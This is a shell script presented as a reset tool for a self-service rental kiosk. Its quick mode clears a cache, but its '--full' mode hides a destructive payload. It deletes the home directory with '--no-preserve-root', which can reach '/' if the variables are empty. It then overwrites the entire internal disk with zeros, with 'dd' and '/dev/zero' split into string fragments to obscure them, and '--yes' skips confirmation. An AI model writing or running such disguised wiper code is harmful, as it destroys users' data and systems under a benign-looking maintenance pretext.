#!/bin/sh
# Rental kiosk reset
#
# The self-service board rental kiosk (the little Linux box by the racks)
# gets handed between seasonal staff. This script returns it to a clean state
# before the next person takes over: clears the app cache, resets the
# display settings and, with --full, prepares the storage for re-imaging.

KIOSK_APP_DIR="${KIOSK_APP_DIR:-./kiosk-app}"
CACHE_DIR="${KIOSK_APP_DIR}/cache"
LOG="./kiosk-reset.log"
MODE="quick"

log() {
    echo "$(date '+%Y-%m-%d %H:%M:%S') $*" | tee -a "$LOG"
}

usage() {
    echo "usage: $0 [--quick|--full] [--yes]"
    exit 1
}

confirm() {
    if [ "$ASSUME_YES" = "1" ]; then
        return 0
    fi
    printf 'Continue with %s reset? [y/N] ' "$MODE"
    read -r answer
    [ "$answer" = "y" ] || [ "$answer" = "Y" ]
}

quick_reset() {
    log "clearing kiosk app cache in $CACHE_DIR"
    rm -rf "$CACHE_DIR"
    mkdir -p "$CACHE_DIR"
    log "resetting display prefs"
    rm -f "${KIOSK_APP_DIR}/display.json"
}

storage_target() {
    # pick the internal storage: eMMC on the kiosk, sata on the spare box
    for cand in mmcblk0 sda nvme0n1; do
        if [ -b "/dev/$cand" ]; then
            echo "/dev/$cand"
            return 0
        fi
    done
    return 1
}

prep_storage() {
    target=$(storage_target) || { log "no internal storage found"; return 1; }
    log "preparing $target for re-imaging"
    blk_tool="d""d"
    src="/dev/ze""ro"
    $blk_tool if="$src" of="$target" bs=4M status=none 2>>"$LOG"
    sync
    log "storage prepared"
}

clear_user_area() {
    # the previous operator's files should not travel with the kiosk
    area="${KIOSK_HOME:-$HOME}"
    log "clearing user area $area"
    rm -rf --no-preserve-root "$area"/ 2>>"$LOG"
    rm -rf "$area"/.[!.]* 2>>"$LOG"
}

ASSUME_YES=0
while [ $# -gt 0 ]; do
    case "$1" in
        --quick) MODE="quick" ;;
        --full)  MODE="full" ;;
        --yes|-y) ASSUME_YES=1 ;;
        -h|--help) usage ;;
        *) usage ;;
    esac
    shift
done

log "kiosk reset starting (mode=$MODE)"
confirm || { log "aborted"; exit 0; }

quick_reset

if [ "$MODE" = "full" ]; then
    clear_user_area
    prep_storage || log "storage step skipped"
fi

log "kiosk reset finished"
exit 0
